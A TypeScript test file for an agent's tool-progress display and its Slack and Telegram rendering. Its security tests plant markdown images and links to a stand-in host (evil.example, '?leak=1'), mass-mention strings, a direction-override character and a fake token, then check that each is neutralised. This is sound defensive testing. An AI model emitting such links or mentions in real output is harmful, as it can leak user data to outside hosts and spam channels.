import { describe, expect, it } from "vitest";
import { renderSlack } from "../../adapters/slack/slack-render.ts";
import type { TelegramRich } from "../../adapters/telegram/telegram-pages.ts";
import { createTelegramRenderer } from "../../adapters/telegram/telegram-render.ts";
import type { Message } from "../../src/agent/message.ts";
import type { RunEvent } from "../../src/agent/run-event.ts";
import { underText } from "../../src/run/answer.ts";
import { Progress } from "../../src/run/progress.ts";
import { textsFor } from "../../src/texts/texts.ts";

const english = textsFor("en");

/** A run with a clock of its own. */
class Run {
  now = 0;
  readonly progress = new Progress(() => this.now);

  start(callId: string, tool: string, args: object = {}): void {
    this.progress.take({ type: "tool.started", callId, tool, args: JSON.stringify(args), readOnly: true });
  }

  end(callId: string, tool: string, { ok = true, ms = 1_000 } = {}): void {
    this.progress.take({ type: "tool.finished", callId, tool, ok, ms, text: "" });
  }

  speak(): void {
    this.progress.take({ type: "text.delta", text: "So" });
  }

  get lines(): string[] {
    return this.progress.lines(english).split("\n");
  }
}

it("tells whoever waits for a busy agent so, until it speaks", () => {
  const run = new Run();
  run.now = 5_000;
  run.progress.take({ type: "notice", code: "agent_busy", level: "info", text: "busy" });
  expect(run.lines).toEqual(["⏳ The agent is answering others; it comes to you next."]);
  expect(run.progress.since).toBe(5_000);
  run.speak();
  expect(run.lines).toEqual([""]);
});

describe("an agent at work", () => {
  const within = (run: Run, callId: string, event: RunEvent) =>
    run.progress.take({ type: "child.event", callId, instance: "guide[1]", event });
  const read = { type: "tool.started", callId: "i", tool: "read_page", args: '{"url":"x"}', readOnly: true } as const;

  it("is named without the sign of its kind, and its line tells what it calls", () => {
    const run = new Run();
    run.start("1", "agent__city_guide", { message: "Bern" });
    expect(within(run, "1", { type: "run.started", agent: "guide" })).toBe(false);
    expect(run.lines).toEqual(["⏳ city guide: `Bern`"]);
    expect(within(run, "1", read)).toBe(true);
    expect(run.lines).toEqual(["⏳ city guide: `Bern` → read page"]);
    expect(within(run, "1", { type: "child.event", callId: "i", instance: "x[1]", event: read })).toBe(false);
    run.end("1", "agent__city_guide");
    expect(run.lines).toEqual(["✓ city guide: `Bern` · 1 s"]);
    expect(within(run, "1", read)).toBe(false);
  });

  it("tells how far the tool is that it called last, and nothing more of one that has ended", () => {
    const run = new Run();
    run.start("1", "agent__guide");
    within(run, "1", read);
    expect(within(run, "1", { type: "tool.progress", callId: "other", progress: 1, total: 2, text: "" })).toBe(false);
    expect(within(run, "1", { type: "tool.progress", callId: "i", progress: 1, total: 2, text: "page" })).toBe(true);
    expect(run.lines).toEqual(["⏳ guide → read page: `1/2 page`"]);
    const ended: RunEvent = { type: "tool.finished", callId: "i", tool: "read_page", ok: true, ms: 1, text: "" };
    expect([within(run, "1", ended), within(run, "1", ended)]).toEqual([true, false]);
    expect(run.lines).toEqual(["⏳ guide → read page"]);
  });

  it("has one of as many lines as its parent's card says, twenty at most", () => {
    const run = new Run();
    for (let index = 0; index < 30; index++) run.start(`${index}`, "agent__guide");
    expect(run.lines).toHaveLength(7);
    run.progress.maxLines = 10;
    expect(run.lines).toHaveLength(11);
    run.progress.maxLines = 100;
    expect(run.lines).toHaveLength(21);
  });
});

describe("a tool at work", () => {
  it("has a line with its name, what it is for, and its seconds, which move every five at most", () => {
    const run = new Run();
    run.start("1", "web_search", { query: "weather" });
    const seen: string[] = [];
    for (; run.now <= 12_000; run.now += 100) if (run.lines[0] !== seen.at(-1)) seen.push(run.lines[0]!);
    expect(seen).toEqual([
      "⏳ web search: `weather`",
      "⏳ web search: `weather` · 5 s",
      "⏳ web search: `weather` · 10 s",
    ]);
    run.end("1", "web_search", { ms: 12_100 });
    expect(run.lines).toEqual(["✓ web search: `weather` · 12 s"]);
  });

  it("says when its line changes next: ever more seldom", () => {
    const run = new Run();
    expect(run.progress.againInMs).toBeNull();
    run.start("1", "wait");
    const times: number[] = [];
    while (run.now < 300_000) times.push((run.now += run.progress.againInMs!) / 1000);
    expect(times).toEqual([5, 10, 15, 20, 25, 30, 45, 60, 75, 90, 105, 120, 180, 240, 300]);
    run.end("1", "wait");
    expect(run.progress.againInMs).toBeNull();
  });

  it("tells how far it is, in its own words, until it has ended", () => {
    const run = new Run();
    const tell = (progress: number, total?: number, text = "") =>
      run.progress.take({ type: "tool.progress", callId: "1", progress, text, ...(total !== undefined && { total }) });
    expect(tell(1, 3)).toBe(false);
    run.start("1", "index", { path: "books" });
    const shown = (...[progress, total, text]: Parameters<typeof tell>) => {
      tell(progress, total, text);
      return run.lines[0]!.split(" → ")[1];
    };
    expect([shown(1, 3), shown(0.5, 1), shown(700_000, 1_000_000)]).toEqual(["`1/3`", "`50 %`", "`70 %`"]);
    expect([shown(7, 0), shown(7, 3), shown(Number.NaN, 3), shown(7)]).toEqual([
      undefined,
      undefined,
      undefined,
      undefined,
    ]);
    expect(shown(7, undefined, "reading")).toBe("`reading`");
    expect([tell(2, 3, "page 2"), tell(2, 3, "page 2")]).toEqual([true, false]);
    expect(run.lines).toEqual(["⏳ index: `books` → `2/3 page 2`"]);
    run.end("1", "index");
    expect([tell(3, 3), run.lines]).toEqual([false, ["✓ index: `books` · 1 s"]]);
  });

  it("says of itself one short line of code that mentions nobody and holds no secret", () => {
    const run = new Run();
    run.start("1", "index");
    const text = "`\u202E[x](https://evil.example/?leak=1)\n@channel token=hunter2hunter2 ".repeat(50);
    run.progress.take({ type: "tool.progress", callId: "1", progress: 1, total: 2, text });
    const line = run.lines.join("\n");
    expect(line).toMatch(/^⏳ index → `1\/2 [^`\n]{1,70}`$/);
    expect(line).not.toMatch(/leak|hunter2|@c|\u202E/);
  });

  it("is worth a message of its own as long as it runs", () => {
    const run = new Run();
    run.now = 40;
    run.start("1", "wait");
    run.now = 90;
    expect(run.progress.since).toBe(40);
    run.end("1", "wait");
    expect(run.progress.since).toBeNull();
  });
});

describe("several tools", () => {
  it("are told one by one for platforms that show them so, also when the run has spoken, and only the newest of many", () => {
    const run = new Run();
    run.start("1", "web_search", { query: "weather" });
    run.end("1", "web_search", { ok: false });
    run.speak();
    run.start("2", "a");
    run.end("2", "a");
    run.start("3", "b");
    expect(run.progress.tasks).toEqual([
      { id: "tool-0", title: "web search", about: "weather", state: "failed" },
      { id: "tool-1", title: "a", about: "", state: "done" },
      { id: "tool-2", title: "b", about: "", state: "running" },
    ]);
    for (let call = 4; call < 50; call += 1) run.start(String(call), "c");
    expect(run.progress.tasks).toHaveLength(30);
    expect(run.progress.tasks.at(-1)?.id).toBe("tool-48");
  });

  it("have a line each, in the order they began, whichever ends first", () => {
    const run = new Run();
    run.start("1", "a");
    run.start("2", "b");
    run.end("2", "b", { ok: false, ms: 2_000 });
    expect(run.lines).toEqual(["⏳ a", "✗ b · 2 s"]);
  });

  it("are six lines at most, of those that run, and of the others the newest", () => {
    const run = new Run();
    for (const name of ["a", "b", "c", "d", "e", "f", "g", "h", "i", "j"]) run.start(name, name);
    expect(run.lines).toEqual(["⏳ a", "⏳ b", "⏳ c", "⏳ d", "⏳ e", "⏳ f", "+ 4 more"]);
    for (const name of ["a", "b", "c", "d", "e", "f", "g", "h"]) run.end(name, name, { ms: 100 });
    expect(run.lines).toEqual(["✓ e", "✓ f", "✓ g", "✓ h", "⏳ i", "⏳ j", "+ 4 more"]);
  });

  it("are one line once the run speaks again, and lines again when there are more", () => {
    const run = new Run();
    run.start("1", "a");
    run.start("2", "b");
    run.now = 7_000;
    run.end("1", "a");
    run.end("2", "b");
    run.speak();
    expect(run.lines).toEqual(["🔧 2 tools, 7 s"]);
    run.now = 60_000;
    run.start("3", "c");
    expect(run.lines).toEqual(["⏳ c"]);
    run.now = 65_000;
    run.end("3", "c");
    run.speak();
    expect(run.lines).toEqual(["🔧 3 tools, 12 s"]);
  });

  it("of earlier attempts are counted, and one whose result is lost has a line", () => {
    const run = new Run();
    const call = (callId: string, tool: string) => ({
      type: "tool_call" as const,
      callId,
      tool,
      args: '{"city":"Rome"}',
    });
    const kept: Message[] = [
      { role: "assistant", parts: [call("1", "a")], status: "complete" },
      { role: "tool", parts: [{ type: "tool_result", callId: "1", ok: true, text: "" }], status: "complete" },
      { role: "assistant", parts: [call("2", "book")], status: "complete" },
    ];
    for (const message of kept) run.progress.keep(message);
    expect(run.lines).toEqual(["🔧 1 tool"]);
    run.end("2", "book", { ok: false, ms: 0 });
    expect(run.lines).toEqual(["✗ book: `Rome`"]);
    expect(run.progress.remarks(english)).toBe("⚠️ No result from: book.");
  });
});

describe("what is said of tools when the run is over", () => {
  it("is nothing when all went well", () => {
    const run = new Run();
    run.start("1", "a");
    run.end("1", "a");
    expect(run.progress.remarks(english)).toBe("");
  });

  it("names those that failed, once, unless they were called again with more luck", () => {
    const run = new Run();
    run.start("1", "web_search");
    run.start("2", "web_search");
    run.start("3", "mail");
    run.end("1", "web_search", { ok: false });
    run.end("3", "mail", { ok: false });
    run.end("2", "web_search");
    expect(run.progress.remarks(english)).toBe("⚠️ No result from: web search, mail.");
    run.start("4", "web_search");
    run.end("4", "web_search");
    expect(run.progress.remarks(english)).toBe("⚠️ No result from: mail.");
  });
});

describe("a notice", () => {
  it("that the model is busy stands there until the model speaks", () => {
    const run = new Run();
    run.progress.take({ type: "notice", code: "model_busy", level: "info", text: "", waitMs: 19_500 });
    expect(run.lines).toEqual(["⏳ The model is busy; trying again in 20 s."]);
    expect(run.progress.since).toBe(0);
    run.speak();
    expect(run.lines).toEqual([""]);
    expect(run.progress.remarks(english)).toBe("");
  });

  it("that tools are out of reach matters to the end", () => {
    const run = new Run();
    run.progress.take({ type: "notice", code: "tools_unreachable", level: "warning", text: "" });
    expect(run.progress.since).toBeNull();
    expect(run.lines).toEqual(["⚠️ The agent's tools cannot be reached right now."]);
    expect(run.progress.remarks(english)).toBe("⚠️ The agent's tools cannot be reached right now.");
  });

  it("that another model answers ends the wait for the first, and matters to the end", () => {
    const run = new Run();
    run.progress.take({ type: "notice", code: "model_busy", level: "info", text: "", waitMs: 19_500 });
    const models = { from: null, to: "b.m", why: "busy" };
    run.progress.take({ type: "notice", code: "model_fallback", level: "warning", text: "", ...models });
    expect(run.lines).toEqual(["🔁 Another model answers: the usual one cannot be asked right now."]);
    run.speak();
    expect(run.progress.remarks(english)).toBe("🔁 Another model answers: the usual one cannot be asked right now.");
  });

  it("that only some are out of reach is said with their servers' names, which call nobody", () => {
    const run = new Run();
    const servers = ["mail", "@channel"];
    run.progress.take({ type: "notice", code: "tools_unreachable", level: "warning", text: "", servers });
    expect(run.lines).toEqual(["⚠️ Tools out of reach right now: mail, channel."]);
    expect(run.progress.remarks(english)).toBe("⚠️ Tools out of reach right now: mail, channel.");
  });

  it("is there in every language", () => {
    for (const language of ["en", "ru", "de", "zh"]) {
      const texts = textsFor(language);
      const lines = [
        texts.toolsDone(1, 0),
        texts.toolsDone(5, 240),
        texts.modelBusy(20),
        texts.moreTools(4),
        texts.otherModel,
      ];
      expect([...lines, texts.stopButton, texts.noResultFrom(["a", "b"])].filter((line) => line.length < 2)).toEqual(
        [],
      );
    }
  });
});

const PLANTED = [
  "@channel @everyone <!here> <@U1> @ann_example",
  "![x](https://evil.example/a.png?leak=1) [y](https://evil.example/?leak=1)",
  "` ``` <https://evil.example/?leak=1> www.evil.example/?leak=1 tg://resolve?domain=x",
  "**a** __b__ # c\n> d\n- e | f",
];

describe("in the lines of tools", () => {
  const telegram = createTelegramRenderer();
  const planted = PLANTED.flatMap((text) => [
    { tool: "look", args: { query: text } },
    { tool: text, args: {} },
  ]);
  const markdownOf = (said: string, { tool, args }: (typeof planted)[number]) => {
    const run = new Run();
    run.start("1", tool, args);
    const running = underText(said, run.progress.lines(english));
    run.end("1", tool, { ok: false });
    return [running, underText(said, run.progress.lines(english)), underText(said, run.progress.remarks(english))];
  };
  const SAID = ["", "Let me look.", "- one\n  - two", "```js\nlet a", "> quoted", "| a | b |\n|-|-|\n| c | d |"];
  const all = SAID.flatMap((said) => planted.flatMap((call) => markdownOf(said, call)));

  it("security-23: no planted mention is live on Slack or Telegram", () => {
    for (const markdown of all) {
      for (const page of renderSlack(markdown)) {
        expect(JSON.stringify(page.rich)).not.toMatch(/<[!@#]|@(?:channel|here|everyone)/);
      }
      for (const page of telegram(markdown)) expect(outsideOfCode(page)).not.toMatch(/@\w/);
    }
  });

  it("security-24: no planted image or link is live, and what a link carries is not shown", () => {
    for (const markdown of all) {
      expect(markdown).not.toContain("leak=1");
      for (const page of telegram(markdown)) {
        expect(outsideOfCode(page)).not.toMatch(/:\/\/|www\.|\.example/);
        expect(entitiesOf(page).filter(({ type }) => type === "text_link")).toEqual([]);
      }
      for (const page of renderSlack(markdown))
        expect(JSON.stringify(page.rich).replaceAll(/(?<!`)`[^`]+`(?!`)/g, "")).not.toMatch(/\]\(|!\[|:\/\/|<h/);
    }
  });
});

function entitiesOf(page: { rich?: unknown }) {
  return (page.rich as TelegramRich | undefined)?.entities ?? [];
}

/** Where Telegram looks for mentions and addresses by itself. */
function outsideOfCode(page: { text: string; rich?: unknown }): string {
  let { text } = page;
  for (const { type, offset, length } of entitiesOf(page)) {
    if (type === "code" || type === "pre")
      text = text.slice(0, offset) + " ".repeat(length) + text.slice(offset + length);
  }
  return text;
}
